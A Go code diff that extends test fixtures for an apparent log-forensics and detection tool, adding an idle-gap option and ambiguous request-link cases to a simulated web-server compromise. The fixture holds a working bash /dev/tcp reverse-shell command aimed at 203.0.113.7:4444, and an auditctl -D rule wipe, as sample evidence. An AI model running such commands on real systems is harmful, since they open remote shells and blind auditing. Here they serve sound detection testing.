@@ -52,9 +52,17 @@ type fixtureOptions struct {
 	// scan adds a low-severity scanner finding that a later run no longer
 	// reports.
 	scan bool
+	// idle delays everything from the interpreter run on (90 s after the
+	// upload) by this long: the attacker came back later (the chart's gap).
+	idle time.Duration
+	// links gives the request links their basis, as timeline makes them,
+	// and adds two requests that fit the reverse shell's spawn equally
+	// (an ambiguous link).
+	links bool
 }
 
 type fixture struct {
+	idle  time.Duration // added to every time from idleFrom on
 	tree  *parser.Tree
 	line  map[string]int
 	input map[string]*parser.Input
@@ -89,6 +97,19 @@ func (fx *fixture) ev(file string, e parser.Event, raw ...string) *parser.Event 
 
 func at(d time.Duration) time.Time { return fixtureT0.Add(d) }
 
+// idleFrom is where fixtureOptions.idle begins: after the reverse shell's
+// first command.
+const idleFrom = 90 * time.Second
+
+// at is the fixture's time d after the upload, delayed by the idle stretch
+// when d is past its start.
+func (fx *fixture) at(d time.Duration) time.Time {
+	if d >= idleFrom {
+		d += fx.idle
+	}
+	return at(d)
+}
+
 // auditTS is the msg=audit(…) stamp of t.
 func auditTS(t time.Time, serial uint64) string {
 	return fmt.Sprintf("msg=audit(%d.%03d:%d)", t.Unix(), t.Nanosecond()/1e6, serial)
@@ -96,7 +117,7 @@ func auditTS(t time.Time, serial uint64) string {
 
 // execEvent is an execve with its SYSCALL, EXECVE, CWD and PROCTITLE records.
 func (fx *fixture) exec(d time.Duration, serial uint64, pid, ppid int, uid uint32, user, exe, cwd string, args ...string) *parser.Event {
-	t := at(d)
+	t := fx.at(d)
 	var argRec strings.Builder
 	fmt.Fprintf(&argRec, "type=EXECVE %s: argc=%d", auditTS(t, serial), len(args))
 	for i, a := range args {
@@ -131,7 +152,7 @@ func needsHex(s string) bool {
 }
 
 func (fx *fixture) write(d time.Duration, serial uint64, pid, ppid int, uid uint32, user, exe, path string) *parser.Event {
-	t := at(d)
+	t := fx.at(d)
 	return fx.ev("/evidence/web01/audit.log", parser.Event{
 		Kind: parser.KindFileWrite, Time: t, Serial: serial, RecordType: "SYSCALL", Syscall: "openat",
 		Arch: "x86_64", Success: true, Exit: 5, Key: "web-write", PID: pid, PPID: ppid,
@@ -147,7 +168,7 @@ func (fx *fixture) write(d time.Duration, serial uint64, pid, ppid int, uid uint
 }
 
 func (fx *fixture) connect(d time.Duration, serial uint64, pid, ppid int, uid uint32, user, exe, ip string, port int) *parser.Event {
-	t := at(d)
+	t := fx.at(d)
 	return fx.ev("/evidence/web01/audit.log", parser.Event{
 		Kind: parser.KindConnect, Time: t, Serial: serial, RecordType: "SYSCALL", Syscall: "connect",
 		Arch: "x86_64", Success: true, Key: "net-out", PID: pid, PPID: ppid,
@@ -162,7 +183,7 @@ func (fx *fixture) connect(d time.Duration, serial uint64, pid, ppid int, uid ui
 }
 
 func (fx *fixture) http(d time.Duration, method, path, query string, status int) *parser.Event {
-	t := at(d)
+	t := fx.at(d)
 	u := path
 	if query != "" {
 		u += "?" + query
@@ -181,7 +202,7 @@ func attackCase(o fixtureOptions) *Case {
 		SHA256: strings.Repeat("a1", 32), Bytes: 1_482_113}
 	accessIn := &parser.Input{Path: "/evidence/web01/access.log.1.gz", Format: parser.FormatAccessLog,
 		Compression: "gzip", SHA256: strings.Repeat("b2", 32), Bytes: 88_402}
-	fx := &fixture{tree: parser.NewTree(), line: map[string]int{},
+	fx := &fixture{idle: o.idle, tree: parser.NewTree(), line: map[string]int{},
 		input: map[string]*parser.Input{auditIn.Path: auditIn, "/evidence/web01/access.log": accessIn}}
 	// The fixture writes access-log evidence under the uncompressed name a
 	// reader reports positions with; the input is the .gz given.
@@ -225,6 +246,13 @@ func attackCase(o fixtureOptions) *Case {
 		Attack: []string{"T1059.004", "T1505.003"}, Stage: detect.StageCommandExecution, Event: idShell, Related: []*parser.Event{cmdReq},
 		Reason: "php-fpm's worker ran sh -c with a recon command"})
 
+	var near []*parser.Event // requests in flight when the reverse shell started
+	if o.links {
+		near = []*parser.Event{
+			fx.http(59*time.Second, "GET", "/uploads/shell.php", "", 200),
+			fx.http(59*time.Second+400*time.Millisecond, "POST", "/uploads/shell.php", "", 200),
+		}
+	}
 	rev := fx.exec(60*time.Second, 4200, 1210, 901, 33, "www-data", "/usr/bin/dash", "/var/www/html/uploads",
 		"sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
 	f3 := find(detect.Finding{RuleID: "ac-web-revshell", Title: "Reverse shell spawned by the web server", Severity: detect.SeverityCritical,
@@ -269,9 +297,9 @@ func attackCase(o fixtureOptions) *Case {
 
 	auditctl := fx.exec(5*time.Minute, 4500, 1300, 1290, 0, "root", "/usr/sbin/auditctl", "/root", "auditctl", "-D")
 	cfg := fx.ev("/evidence/web01/audit.log", parser.Event{
-		Kind: parser.KindConfig, Time: at(5*time.Minute + 2*time.Millisecond), Serial: 4501, RecordType: "CONFIG_CHANGE",
+		Kind: parser.KindConfig, Time: fx.at(5*time.Minute + 2*time.Millisecond), Serial: 4501, RecordType: "CONFIG_CHANGE",
 		Op: "remove_rule", Message: "audit rules deleted", PID: 1300, AUID: parser.NewID(1000), SES: parser.NewID(7), Key: "(null)",
-	}, fmt.Sprintf(`type=CONFIG_CHANGE %s: auid=1000 ses=7 subj=unconfined op=remove_rule key=(null) list=4 res=1`, auditTS(at(5*time.Minute+2*time.Millisecond), 4501)))
+	}, fmt.Sprintf(`type=CONFIG_CHANGE %s: auid=1000 ses=7 subj=unconfined op=remove_rule key=(null) list=4 res=1`, auditTS(fx.at(5*time.Minute+2*time.Millisecond), 4501)))
 	find(detect.Finding{RuleID: "ac-audit-rules-deleted", Title: "Audit rules deleted", Severity: detect.SeverityCritical,
 		Attack: []string{"T1562.012"}, Stage: detect.StageNone, Event: cfg, Related: []*parser.Event{auditctl}, Tampering: true,
 		Reason: "auditctl -D removes every rule: nothing after this is logged"})
@@ -294,6 +322,13 @@ func attackCase(o fixtureOptions) *Case {
 			Confidence: "medium", Reason: "the only POST within 2s before php-fpm wrote the file"},
 		{Request: cmdReq, Process: idShell.Proc, Worker: f1.Process, Event: idShell,
 			Confidence: "high", Reason: "the query's cmd=id is the shell's command"},
+	}
+	if o.links {
+		ch.Requests[0].Basis, ch.Requests[0].Inferred = timeline.BasisOnly, true
+		ch.Requests[1].Basis = timeline.BasisParameter
+		ch.Requests = append(ch.Requests, timeline.RequestLink{Process: rev.Proc, Worker: f1.Process, Event: rev,
+			Basis: timeline.BasisAmbiguous, Inferred: true, Candidates: near, Confidence: "low",
+			Reason: "ambiguous: 2 candidates (requests in flight when the process started)"})
 	}
 	if o.scan {
 		ch.Findings = append([]*detect.Finding{scan}, ch.Findings...)
